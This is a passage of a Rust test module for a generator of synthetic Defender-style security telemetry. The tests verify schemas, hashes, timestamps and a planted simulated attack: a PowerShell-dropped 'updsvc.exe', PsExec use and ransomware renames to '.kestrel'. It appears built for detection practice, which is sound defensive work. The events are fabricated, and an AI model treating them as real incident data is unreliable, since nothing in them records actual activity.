                        "Domain Users",
                        "Domain Admins",
                        "Enterprise Admins"
                    ])),
                ),
            ],
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small() -> Vec<GeneratedTable> {
        generate(&LabOptions {
            scale: 1,
            seed: 7,
            end_nanos: 1_700_000_000 * SECOND,
        })
        .unwrap()
    }

    #[test]
    fn every_schema_table_exists_with_its_columns() {
        let tables = small();
        let schema = lab_tables();
        assert_eq!(tables.len(), schema.len());
        for ((name, columns, batch), (schema_name, schema_columns)) in tables.iter().zip(&schema) {
            assert_eq!(name, schema_name);
            assert_eq!(columns, schema_columns);
            assert_eq!(batch.num_columns(), schema_columns.len());
            // Typed as the schema says: the batch's Arrow types are the KQL types' own.
            assert_eq!(
                batch.schema(),
                crate::results::kql_schema(schema_columns),
                "{name}"
            );
        }
        let rows = |t: &str| {
            tables
                .iter()
                .find(|(n, _, _)| n == t)
                .map(|(_, _, b)| b.num_rows())
                .unwrap()
        };
        for table in [
            "DeviceProcessEvents",
            "DeviceNetworkEvents",
            "DeviceFileEvents",
            "DeviceRegistryEvents",
            "DeviceLogonEvents",
            "DeviceEvents",
            "DeviceInfo",
            "DeviceImageLoadEvents",
            "EmailEvents",
            "EmailAttachmentInfo",
            "EmailUrlInfo",
            "UrlClickEvents",
            "IdentityLogonEvents",
            "IdentityInfo",
            "CloudAppEvents",
            "AlertInfo",
            "AlertEvidence",
            "IdentityQueryEvents",
            "IdentityDirectoryEvents",
            "DeviceFileCertificateInfo",
            "DeviceTvmSoftwareInventory",
            "DeviceTvmSoftwareVulnerabilities",
            "DeviceTvmSoftwareVulnerabilitiesKB",
            "BehaviorInfo",
            "BehaviorEntities",
            "DeviceNetworkInfo",
        ] {
            assert!(rows(table) > 0, "{table} is filled");
        }
    }

    fn table<'a>(tables: &'a [GeneratedTable], name: &str) -> &'a GeneratedTable {
        tables.iter().find(|(n, _, _)| n == name).unwrap()
    }

    /// A text column's values (empty when the table has no such column).
    fn texts(tables: &[GeneratedTable], name: &str, column: &str) -> Vec<String> {
        use datafusion::arrow::array::AsArray;
        let (_, columns, batch) = table(tables, name);
        match columns.iter().position(|(n, _)| n == column) {
            Some(i) => batch
                .column(i)
                .as_string::<i32>()
                .iter()
                .map(|v| v.unwrap_or("").to_string())
                .collect(),
            None => Vec::new(),
        }
    }

    /// A datetime column's ticks.
    fn ticks(tables: &[GeneratedTable], name: &str, column: &str) -> Vec<Option<i64>> {
        use datafusion::arrow::array::AsArray;
        use datafusion::arrow::datatypes::Int64Type;
        let (_, columns, batch) = table(tables, name);
        let i = columns.iter().position(|(n, _)| n == column).unwrap();
        batch.column(i).as_primitive::<Int64Type>().iter().collect()
    }

    #[test]
    fn every_table_with_a_timestamp_carries_time_generated_with_its_value() {
        let tables = small();
        let mut checked = 0;
        for (name, columns, _) in &tables {
            if !columns.iter().any(|(n, _)| n == "Timestamp") {
                assert!(!columns.iter().any(|(n, _)| n == "TimeGenerated"), "{name}");
                continue;
            }
            let generated = columns.iter().find(|(n, _)| n == "TimeGenerated");
            assert_eq!(
                generated.map(|(_, t)| *t),
                Some(KqlType::DateTime),
                "{name}"
            );
            assert_eq!(
                ticks(&tables, name, "TimeGenerated"),
                ticks(&tables, name, "Timestamp"),
                "{name}"
            );
            checked += 1;
        }
        assert!(checked > 40, "{checked}");
        // Defender's own tables do not gain it: only the two it documents there have it.
        let defender: Vec<String> = schema_tables()
            .into_iter()
            .filter(|(_, columns)| columns.iter().any(|(n, _)| n == "TimeGenerated"))
            .map(|(name, _)| name)
            .collect();
        assert_eq!(defender, ["GraphAPIAuditEvents", "UrlClickEvents"]);
    }

    #[test]
    fn hashes_are_independent_and_each_file_has_one_set() {
        let tables = small();
        let hex = |s: &str, len: usize| s.len() == len && s.bytes().all(|b| b.is_ascii_hexdigit());
        let mut by_sha1: std::collections::HashMap<String, (String, String)> = Default::default();
        let mut by_program: std::collections::HashMap<String, String> = Default::default();
        let mut seen = 0;
        for (name, _, _) in &tables {
            for prefix in ["", "InitiatingProcess"] {
                let md5 = texts(&tables, name, &format!("{prefix}MD5"));
                let sha1 = texts(&tables, name, &format!("{prefix}SHA1"));
                let sha256 = texts(&tables, name, &format!("{prefix}SHA256"));
                let file = if prefix.is_empty() {
                    "FileName"
                } else {
                    "InitiatingProcessFileName"
                };
                let files = texts(&tables, name, file);
                if md5.is_empty() || sha1.is_empty() || sha256.is_empty() {
                    continue;
                }
                for i in 0..sha1.len() {
                    let (m, s1, s2) = (&md5[i], &sha1[i], &sha256[i]);
                    if s1.is_empty() {
                        continue;
                    }
                    seen += 1;
                    assert!(
                        hex(m, 32) && hex(s1, 40) && hex(s2, 64),
                        "{name}: {m} {s1} {s2}"
                    );
                    assert!(
                        !s1.starts_with(&m[..8])
                            && !s2.starts_with(&s1[..8])
                            && !s2.starts_with(&m[..8]),
                        "{name}: one hash begins another: {m} {s1} {s2}"
                    );
                    let entry = by_sha1.entry(s1.clone()).or_insert((m.clone(), s2.clone()));
                    assert_eq!(
                        entry,
                        &(m.clone(), s2.clone()),
                        "{name}: SHA1 {s1} with two MD5/SHA256"
                    );
                    if let Some(program) = files.get(i).filter(|f| is_program(f)) {
                        let known = by_program
                            .entry(program.to_ascii_lowercase())
                            .or_insert(s1.clone());
                        assert_eq!(known, s1, "{name}: {program} with two SHA1s");
                    }
                }
            }
        }
        assert!(seen > 10_000, "{seen}");
        // The payload: written by PowerShell, then run, then named in the alert: one file.
        let written: Vec<String> = texts(&tables, "DeviceFileEvents", "SHA1")
            .into_iter()
            .zip(texts(&tables, "DeviceFileEvents", "FileName"))
            .filter(|(_, f)| f == "updsvc.exe")
            .map(|(h, _)| h)
            .collect();
        assert_eq!(written.len(), 1);
        assert_eq!(by_program.get("updsvc.exe"), Some(&written[0]));
        let evidence: Vec<String> = texts(&tables, "AlertEvidence", "SHA1")
            .into_iter()
            .zip(texts(&tables, "AlertEvidence", "FileName"))
            .filter(|(_, f)| f == "updsvc.exe")
            .map(|(h, _)| h)
            .collect();
        assert_eq!(evidence, written);
    }

    #[test]
    fn partners_write_from_a_few_mailboxes_and_servers() {
        let tables = small();
        let domains = texts(&tables, "EmailEvents", "SenderFromDomain");
        let senders = texts(&tables, "EmailEvents", "SenderFromAddress");
        let ips = texts(&tables, "EmailEvents", "SenderIPv4");
        let mut by_domain: std::collections::BTreeMap<&str, Vec<usize>> = Default::default();
        for (i, domain) in domains.iter().enumerate() {
            by_domain.entry(domain.as_str()).or_default().push(i);
        }
        assert!(by_domain.len() >= 5, "{by_domain:?}");
        for (domain, rows) in by_domain {
            let addresses: std::collections::BTreeSet<&str> =
                rows.iter().map(|&i| senders[i].as_str()).collect();
            let servers: std::collections::BTreeSet<&str> =
                rows.iter().map(|&i| ips[i].as_str()).collect();
            assert!(addresses.len() <= 3, "{domain}: {addresses:?}");
            assert!(servers.len() <= 2, "{domain}: {servers:?}");
            if rows.len() > 20 {
                // Every mailbox writes again and again.
                for address in &addresses {
                    let sent = rows.iter().filter(|&&i| senders[i] == *address).count();
                    assert!(sent >= 5, "{address} wrote {sent} of {}", rows.len());
                }
            }
        }
    }

    #[test]
    fn planted_events_do_not_share_a_sub_second() {
        let tables = small();
        let second = 10_000_000; // ticks
        let sub = |t: Option<i64>| t.unwrap().rem_euclid(second);
        let ids = texts(&tables, "AlertInfo", "AlertId");
        let times = ticks(&tables, "AlertInfo", "Timestamp");
        let planted: std::collections::BTreeSet<i64> = ids
            .iter()
            .zip(&times)
            .filter(|(id, _)| id.starts_with("da638104829310000"))
            .map(|(_, t)| sub(*t))
            .collect();
        assert_eq!(planted.len(), 4, "{planted:?}");
        // The attack's processes on the victim's workstation.
        let commands = texts(&tables, "DeviceProcessEvents", "InitiatingProcessFileName");
        let times = ticks(&tables, "DeviceProcessEvents", "Timestamp");
        let attack: Vec<i64> = commands
            .iter()
            .zip(&times)
            .filter(|(c, _)| ["wscript.exe", "updsvc.exe", "PsExec.exe"].contains(&c.as_str()))
            .map(|(_, t)| sub(*t))
            .collect();
        let distinct: std::collections::BTreeSet<&i64> = attack.iter().collect();
        assert!(
            attack.len() >= 5 && distinct.len() == attack.len(),
            "{attack:?}"
        );
        // The ransomware renames, one after another at their own pace.
        let names = texts(&tables, "DeviceFileEvents", "FileName");
        let times = ticks(&tables, "DeviceFileEvents", "Timestamp");
        let renames: std::collections::BTreeSet<i64> = names
            .iter()
            .zip(&times)
            .filter(|(n, _)| n.ends_with(".kestrel"))
            .map(|(_, t)| sub(*t) / 10_000) // milliseconds
            .collect();
        assert!(
            renames.len() > 150,
            "{} distinct milliseconds",
            renames.len()
        );
    }

    #[test]
    fn every_program_carries_its_own_version_info() {
        let tables = small();
        let mut info: std::collections::BTreeMap<String, [String; 4]> = Default::default();
        for prefix in ["", "Initiating"] {
            let column = |c: &str| {
                texts(
                    &tables,
                    "DeviceProcessEvents",
                    &format!("{prefix}Process{c}"),
                )
            };
            let files = if prefix.is_empty() {
                texts(&tables, "DeviceProcessEvents", "FileName")
            } else {
                column("FileName")
            };
            let company = column("VersionInfoCompanyName");
            let product = column("VersionInfoProductName");
            let description = column("VersionInfoFileDescription");
            let original = column("VersionInfoOriginalFileName");
            for i in 0..files.len() {
                let values = [
                    company[i].clone(),
                    product[i].clone(),
                    description[i].clone(),
                    original[i].clone(),
                ];
                let known = info
                    .entry(files[i].to_ascii_lowercase())
                    .or_insert(values.clone());
                assert_eq!(known, &values, "{}", files[i]);
            }
        }
        assert_eq!(
            info["onedrive.exe"],
            [
                "Microsoft Corporation",
                "Microsoft OneDrive",
                "Microsoft OneDrive",
                "OneDrive.exe"
            ]
        );
        assert_eq!(info["cmd.exe"][2], "Windows Command Processor");
        // No program borrows another's description, and no description is a product's name.
        let mut descriptions: std::collections::BTreeMap<&str, &str> = Default::default();
        for (file, [_, product, description, _]) in &info {
            if ["updsvc.exe", "kx.exe", "system"].contains(&file.as_str()) {
                assert!(description.is_empty(), "{file}: {description}");
                continue;
            }
            assert!(!description.is_empty(), "{file} has no description");
            assert_ne!(description, WINDOWS, "{file}");
            if product != "Microsoft Office" {
                assert!(!description.contains("Operating System"), "{file}");
            }
            if let Some(other) = descriptions.insert(description, file) {
                panic!("{file} and {other} share the description {description}");
            }
        }
    }

    #[test]
    fn the_new_tables_fit_the_lab() {
        let tables = small();
        let rows = |t: &str| table(&tables, t).2.num_rows();
        // Certificates: one row per program and device, keyed by the programs' SHA1s.
        let programs: std::collections::BTreeSet<String> =
            texts(&tables, "DeviceProcessEvents", "SHA1")
                .into_iter()
                .collect();
        let certified = texts(&tables, "DeviceFileCertificateInfo", "SHA1");
        assert!(certified.iter().all(|h| h.len() == 40));
        assert!(
            programs
                .iter()
                .filter(|h| !h.is_empty())
                .all(|h| certified.contains(h))
        );
        // Each device's inventory names the device as DeviceInfo does.
        let devices: std::collections::BTreeSet<String> =
            texts(&tables, "DeviceInfo", "DeviceName")
                .into_iter()
                .collect();
        for t in [
            "DeviceTvmSoftwareInventory",
            "DeviceTvmSoftwareVulnerabilities",
            "DeviceFileCertificateInfo",
            "DeviceNetworkInfo",
        ] {
            let names: std::collections::BTreeSet<String> =
                texts(&tables, t, "DeviceName").into_iter().collect();
            assert!(names.is_subset(&devices), "{t}: {names:?}");
        }
        // Every vulnerability a device has is in the knowledge base.
        let kb: std::collections::BTreeSet<String> =
            texts(&tables, "DeviceTvmSoftwareVulnerabilitiesKB", "CveId")
                .into_iter()
                .collect();
        assert!(
            texts(&tables, "DeviceTvmSoftwareVulnerabilities", "CveId")
                .iter()
                .all(|c| kb.contains(c))
        );
        // Behaviors and their entities share ids.
        let behaviors: std::collections::BTreeSet<String> =
            texts(&tables, "BehaviorInfo", "BehaviorId")
                .into_iter()
                .collect();
        let entities: std::collections::BTreeSet<String> =
            texts(&tables, "BehaviorEntities", "BehaviorId")
                .into_iter()
                .collect();
        assert_eq!(behaviors, entities);
        assert!(rows("IdentityQueryEvents") > 500);
        assert!(rows("IdentityDirectoryEvents") > 5);
    }

    #[test]
    fn the_same_seed_gives_the_same_data() {
        let (a, b) = (small(), small());
        for ((_, _, x), (_, _, y)) in a.iter().zip(&b) {
            assert_eq!(x, y);
        }
    }

    #[test]
    fn parts_put_together_are_the_whole_lab() {
        use datafusion::arrow::compute::concat_batches;
        let options = LabOptions {
            scale: 1,
            seed: 7,
            end_nanos: 1_700_000_000 * SECOND,
        };
        let whole = generate(&options).unwrap();
        let only = [
            "DeviceProcessEvents".to_string(),
            "DeviceNetworkEvents".to_string(),
            "AlertInfo".to_string(),
            "CloudStorageAggregatedEvents".to_string(),
        ];
        let mut parts: std::collections::BTreeMap<String, Vec<RecordBatch>> = Default::default();
        generate_in_parts(
            &options,
            Some(&only),
            500,
            &mut |name, _, batch| {
                parts.entry(name.to_string()).or_default().push(batch);
                Ok(())
            },
            &|_| {},
        )
        .unwrap();
        assert_eq!(parts.keys().collect::<Vec<_>>().len(), only.len());
        assert!(
            parts["DeviceProcessEvents"].len() > 3,
            "taken in several parts"
        );
        assert!(
            parts["DeviceProcessEvents"][..1]
                .iter()
                .all(|b| b.num_rows() >= 500)
        );
        for name in &only {
            let (_, _, expected) = whole.iter().find(|(n, _, _)| n == name).unwrap();
            let got = concat_batches(&expected.schema(), &parts[name]).unwrap();
            assert_eq!(&got, expected, "{name}");
        }
        // An empty table (no rows at this scale) still gets its one, empty, part.
        assert_eq!(parts["CloudStorageAggregatedEvents"].len(), 1);
        let unknown = generate_in_parts(
            &options,
            Some(&["NoSuchTable".to_string()]),
            500,
            &mut |_, _, _| Ok(()),
            &|_| {},
        );
        assert_eq!(unknown, Err("'NoSuchTable' is no lab table".to_string()));
        let stopped = generate_in_parts(
            &options,
            None,
            500,
            &mut |name, _, _| Err(format!("disk full at {name}")),
            &|_| {},
        );
        assert!(stopped.unwrap_err().starts_with("disk full at "));
    }

    #[test]
    fn timestamps_stay_inside_the_thirty_days() {
        use datafusion::arrow::array::AsArray;
        use datafusion::arrow::datatypes::Int64Type;
        let ticks = |nanos| crate::kql::time::ticks_from_unix_nanos(nanos).unwrap();
        let end = ticks(1_700_000_000 * SECOND);
        let start = ticks(1_700_000_000 * SECOND - LAB_DAYS * DAY);
        for (name, columns, batch) in small() {
            if let Some(i) = columns.iter().position(|(n, _)| n == "Timestamp") {
                let times = batch.column(i).as_primitive::<Int64Type>();
                for t in times.iter().flatten() {
                    assert!(t <= end && t >= start, "{name}: {t}");
                }
            }
        }
    }

    #[test]
    fn scale_multiplies_ordinary_activity() {
        let rows = |scale| {
            let tables = generate(&LabOptions {
                scale,
                seed: 7,
                end_nanos: 1_700_000_000 * SECOND,
            })
            .unwrap();
            tables
                .iter()
                .find(|(n, _, _)| n == "DeviceProcessEvents")
                .map(|(_, _, b)| b.num_rows())
                .unwrap()
        };
        let (one, three) = (rows(1), rows(3));
        assert!(three > one * 2, "{one} → {three}");
    }
}
